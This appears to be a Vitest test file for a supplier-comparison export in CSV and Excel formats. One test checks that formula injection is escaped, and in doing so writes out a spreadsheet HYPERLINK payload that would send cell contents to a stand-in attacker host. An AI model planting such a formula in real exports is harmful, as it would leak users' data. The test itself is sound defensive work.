import { readSheet } from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { comparisonCsv, comparisonXlsx } from './matrix-comparison-export.server.ts'

const rows = [
	{
		organisation: 'Brightstart, CIC',
		status: 'approved' as const,
		totalPence: 2_020_000,
		percentBasisPoints: 2020,
		quantityScore: 100,
		qualityScore: 80,
		socialValueScore: 9,
	},
	{
		organisation: 'Northgate “Construction”',
		status: 'under_review' as const,
		totalPence: 1_010_050,
		percentBasisPoints: 1010,
		quantityScore: 50,
		qualityScore: null,
		socialValueScore: null,
	},
]

test('the comparison exports as CSV with quoting, a BOM and pounds', () => {
	const csv = comparisonCsv(rows)
	expect(csv.startsWith('\uFEFFSupplier,Status,Social value (£)')).toBe(true)
	expect(csv).toContain('"Brightstart, CIC",Approved,20200,20.2,100,80,9')
	expect(csv).toContain('Northgate “Construction”,Under review,10100.5,10.1,50,,')
})

test('a supplier’s name that a spreadsheet would run as a formula comes out as text', () => {
	const named = (organisation: string) => ({ ...rows[1]!, organisation })
	const csv = comparisonCsv([
		named('=HYPERLINK("http://evil.example/?leak="&A1,"Click here")'),
		named('+44 Services'),
		named('-Minus Ltd'),
		named('@Home Care'),
	])
	expect(csv.split('\r\n').slice(1, 5)).toEqual([
		'"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")",Under review,10100.5,10.1,50,,',
		"'+44 Services,Under review,10100.5,10.1,50,,",
		"'-Minus Ltd,Under review,10100.5,10.1,50,,",
		"'@Home Care,Under review,10100.5,10.1,50,,",
	])
})

test('the comparison exports as an Excel workbook that reads back', async () => {
	const sheet = await readSheet(await comparisonXlsx(rows))
	expect(sheet[0]).toEqual([
		'Supplier',
		'Status',
		'Social value (£)',
		'Share of contract value (%)',
		'Quantity score',
		'Quality score',
		'Social value score',
	])
	expect(sheet[1]?.slice(0, 3)).toEqual(['Brightstart, CIC', 'Approved', 20200])
})
